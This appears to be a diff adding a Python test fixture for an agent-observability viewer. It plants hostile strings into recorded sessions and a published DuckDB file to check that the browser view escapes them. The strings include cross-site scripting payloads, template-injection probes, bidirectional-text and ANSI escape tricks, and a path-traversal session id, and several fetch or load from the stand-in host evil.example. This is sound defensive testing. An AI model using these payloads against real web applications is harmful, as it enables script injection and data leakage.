@@ -1,0 +1,144 @@
+"""Words that want to run, to leave, or to mislead; and a store in which all of them stand wherever a word can stand.
+
+Through the recorder they come into whatever was said, and into names, of which it makes digests. What a recorder
+would refuse stands in the published file all the same: it may come from anybody.
+"""
+
+from __future__ import annotations
+
+import shutil
+import typing
+from collections.abc import Callable
+
+import duckdb
+
+from agentobs.recording.home import Home
+from agentobs.records import facts
+from agentobs.records.labels import Label
+from agentobs.sink import Record
+from agentobs.store import publish
+from agentobs.store.schema import SETTINGS
+from tests.browser.stories import Story, text, thinking
+
+RUN = "window.hacked=1"
+"""What each of them would do if it ran."""
+AWAY = "http://evil.example"
+"""Where each of them would go if it could."""
+CLOSING = f"</textarea></title></pre></script><script>{RUN};fetch('{AWAY}/a')</script>"
+TEXTS = {
+    "script": f"<script>{RUN};fetch('{AWAY}/script')</script>",
+    "closing": CLOSING,
+    "image": f"<img src=x onerror={RUN}><img src={AWAY}/pixel.png>",
+    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    "link": f"[read this](javascript:{RUN}) ![seen]({AWAY}/md.png) <{AWAY}/auto>",
+    "anchor": f"<a href='javascript:{RUN}'>here</a><a href={AWAY} ping={AWAY}>there</a>",
+    "attribute": f'" autofocus onfocus="{RUN}" \' onmouseover=\'{RUN}\' x="',
+    "form": f"<form action={AWAY}><input autofocus onfocus={RUN}><button>ok</button></form>",
+    "meta": f"<meta http-equiv=refresh content='0;url={AWAY}/meta'><base href={AWAY}/>",
+    "frame": f"<iframe srcdoc='<script>parent.hacked=1</script>' src={AWAY}></iframe>",
+    "style": f"x;}}</style><style>*{{display:none}}body{{background:url({AWAY}/css)}}</style>",
+    "template": "{{7*191}} {%raw%} ${7*191} #{7*191} <%= 7*191 %> %(name)s {0}",
+    "plotly": f"<b>bold</b><br><a href='{AWAY}/plotly'>link</a> %{{x}} $\\alpha$",
+    "json": '"}]</script><!--<script>\u2028\u2029 --> ]]> &lt;b&gt; &#x3c;i&#x3e;',
+    "bidi": "invoice\u202egnp.exe\u2066 \u200b\u200f\u2069 zero",
+    "ansi": f"\x1b[31mred\x1b[0m \x1b]8;;{AWAY}\x07link\x1b]8;;\x07 \x9b2J\r\x08",
+}
+"""Each of them by its name."""
+BROKEN = "before\x00after, half \ud83d of a pair, \ufffe\uffff, "
+"""What JSON can hold and text cannot."""
+EVERYTHING = BROKEN + "\n".join(TEXTS.values())
+LINE = 10_000_000
+"""Characters of the longest line."""
+LINES = 100_000
+"""Lines of the text with the most lines."""
+END = "the very end of it"
+"""What stands behind all of a long text: whoever wants it must be able to get it."""
+STRANGE_ID = f"x\"'><img src=x onerror={RUN}>/../%2e%2e?a=1&b#c"
+"""The id of a session that no recorder made."""
+
+
+def tell_hostile(tell: Callable[[Record], None], at_ns: int) -> str:
+    """Tell sessions full of them; the one that is at length, by its id."""
+    for number, words in enumerate(TEXTS.values()):
+        _short(tell, number, words, at_ns + number * 10**12)
+    return _said(tell, at_ns - 10**12)
+
+
+def _short(tell: Callable[[Record], None], number: int, words: str, at_ns: int) -> None:
+    """A session in whose every place one of the texts stands."""
+    tags = {"branch": words, "note": words[:60]}
+    story = Story(tell, words, at_ns, model=words, system=words, seed=number, **tags)
+    with story.interaction(words):
+        _turn(story, words, words)
+        story.turn(text(words), stop_reason=words, service_tier=words)
+    story.end("failed" if number % 3 else "completed", "ValueError")
+
+
+def _said(tell: Callable[[Record], None], at_ns: int) -> str:
+    """A session that says everything, and says it at length; its id."""
+    story = Story(tell, "said-at-length", at_ns, seed=99)
+    with story.interaction(EVERYTHING):
+        _turn(story, EVERYTHING, EVERYTHING)
+        _turn(story, "lines", "\n".join(f"line {n} {RUN}" for n in range(LINES)) + END)
+        _turn(story, "line", f"<script>{RUN}</script>" + "0123456789" * (LINE // 10) + END)
+        story.turn(text(EVERYTHING))
+    return story.end()
+
+
+def _turn(story: Story, words: str, result: str) -> None:
+    call = {
+        "type": "tool_use",
+        "id": story.call_id(),
+        "name": words[:64],
+        "input": {words[:200]: words, "path": f"/tmp/{words}"},
+    }
+    story.turn(thinking(words), text(words), call, fails=("overloaded_error",))
+    story.results(story.run(call, result, is_error=True, waited=1.0, hook="audit"))
+
+
+KEPT = {"kind", "lane", "query_source", "certainty", "source", "content", "signal"}
+"""Labels by which rows are found and joined: with other words in them nothing would be shown at all."""
+KEPT_NAMES = {"span_starts"}
+"""Tables whose `name` says what time counts as; their `label` has the texts."""
+
+
+def spoil(home: Home, but: str) -> None:
+    """Put the texts before every label of the published file, equal ones before equal labels, and into tags.
+
+    Of one session the labels stay as they are: what it says is enough.
+    """
+    texts = [f"{words} " for words in TEXTS.values()]
+    draft = home.path / "spoilt"
+    shutil.copy(home.database, draft)
+    draft.chmod(0o600)
+    with duckdb.connect(str(draft), config=SETTINGS) as connection:
+        for fact, table in facts.TABLES.items():
+            for column in sorted(
+                _labels(fact) - KEPT - ({"name"} if table in KEPT_NAMES else set())
+            ):
+                connection.execute(
+                    f"UPDATE {table} SET {column} = list_extract($texts, "
+                    f"1 + (hash({column}) % len($texts)::UBIGINT)::BIGINT) || {column} "
+                    f"WHERE {column} IS NOT NULL AND session_id <> $but",
+                    {"texts": texts, "but": but},
+                )
+        connection.execute(
+            "INSERT INTO session_starts BY NAME SELECT * REPLACE ($strange AS session_id, "
+            "MAP {$words: $words} AS tags) FROM session_starts LIMIT 1",
+            {"strange": STRANGE_ID, "words": TEXTS["closing"]},
+        )
+        connection.execute(
+            "UPDATE session_starts SET tags = MAP {name: name, 'note': name} WHERE session_id <> $but",
+            {"but": but},
+        )
+        connection.execute("CHECKPOINT")
+    generation = publish.glance(home)
+    assert generation is not None
+    with publish.locked(home, 10):
+        publish.publish(home, draft, generation.facts_bytes, generation, generation.read)
+
+
+def _labels(fact: type) -> set[str]:
+    """The fields of a fact that hold labels."""
+    told = typing.get_type_hints(fact)
+    return {name for name, kind in told.items() if Label in (kind, *typing.get_args(kind))}
